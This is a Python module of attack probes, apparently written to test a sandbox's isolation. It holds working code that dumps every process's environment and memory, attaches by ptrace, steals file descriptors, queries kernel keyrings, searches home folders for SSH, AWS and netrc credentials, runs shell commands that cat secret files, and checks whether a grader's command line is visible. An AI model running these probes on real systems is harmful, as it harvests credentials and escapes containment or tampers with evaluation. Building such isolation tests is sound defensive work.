"""Reading the environment, the memory and the keys of other programs."""

from __future__ import annotations

from attacks.kinds import code
from attacks.tools import (
    HOME_OUTSIDE,
    ctypes,
    found,
    libc,
    look,
    os,
    others,
    re,
    reached,
    shell,
    struct,
)


@code("Prints its own environment.", outside=True)
def own_environment() -> None:
    found(repr(dict(os.environ)))


@code("Reads the environment of every process.", outside=True)
def environment_of_all() -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found(file.read())
        except OSError:
            continue


@code("Reads command lines and names of every process.")
def command_lines_of_all() -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read()
            found(words)
            if b"nbgrader" in words or b"pytest" in words:
                reached("the command line of the grader")


@code("Reads the memory of every process that it can name.")
def memory_of_all() -> None:
    # The list may name processes as an outer namespace does, where `getpid` tells another number.
    own = os.readlink("/proc/self")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if pid == own:
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                for line in list(maps)[:200]:
                    start, end = (int(part, 16) for part in re.split("[- ]", line)[:2])
                    memory.seek(start)
                    found(memory.read(min(end - start, 1 << 20)))
                reached(f"the memory of process {pid}")
        except (OSError, ValueError, OverflowError):
            continue


@code("Takes hold of other processes as a debugger does.")
def debugs_others() -> None:
    for pid in others():
        if libc.ptrace(16, pid, 0, 0) == 0:
            reached(f"process {pid} by ptrace")


@code("Reads the memory of other processes by a system call of its own.")
def memory_by_system_call() -> None:
    buffer = ctypes.create_string_buffer(64)
    here = struct.pack("QQ", ctypes.addressof(buffer), 64)
    # Every process may be a fork of one and the same, so what lies here lies there too.
    places = [int(line.split("-")[0], 16) for line in open("/proc/self/maps")][:50]  # noqa: SIM115
    for pid in others():
        for place in places:
            there = struct.pack("QQ", place, 64)
            if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
                reached(f"the memory of process {pid}")


@code("Takes descriptors out of other processes.")
def descriptors_of_others() -> None:
    for pid in others():
        handle = libc.syscall(434, pid, 0)
        if handle >= 0 and any(libc.syscall(438, handle, number, 0) >= 0 for number in range(20)):
            reached(f"a descriptor of process {pid}")


@code("Asks the kernel for the keys that it keeps.")
def keys_of_the_kernel() -> None:
    for ring in (-1, -2, -3, -4, -5):
        if libc.syscall(250, 0, ring, 0) >= 0:
            reached("a key ring")
    if libc.syscall(248, b"user", b"x", b"y", 1, -3) >= 0:
        reached("a key ring, to write")


@code("Uses calls that help to attack the kernel itself.")
def rare_system_calls() -> None:
    buffer = ctypes.create_string_buffer(4096)
    calls = {"userfaultfd": 323, "bpf": 321, "perf": 298, "io_uring": 425, "module": 313,
             "kexec": 246, "syslog": 103, "acct": 163}  # fmt: skip
    for name, number in calls.items():
        if libc.syscall(number, 3, buffer, 4096, 0, 0) >= 0:
            reached(name)


@code("Reads keys and passwords that lie in home folders.", outside=True)
def keys_in_home_folders() -> None:
    for home in (HOME_OUTSIDE, "/root", os.path.expanduser("~")):
        look(f"{home}/.ssh", f"{home}/.aws", f"{home}/.netrc", f"{home}/.config")


@code("Lets the shell and the tools of the system look.")
def secrets_by_shell() -> None:
    found(shell("env; ps axeww; cat /proc/*/environ; mount; id; who; getent passwd"))
    found(shell("cat ~/.* /root/.* 2>/dev/null; git config --global -l"))


@code("Reads the sockets and mounts of the machine.")
def maps_of_the_machine() -> None:
    for name in ("mountinfo", "net/unix", "net/tcp", "cgroup", "maps"):
        with open(f"/proc/self/{name}") as file:
            found(file.read())
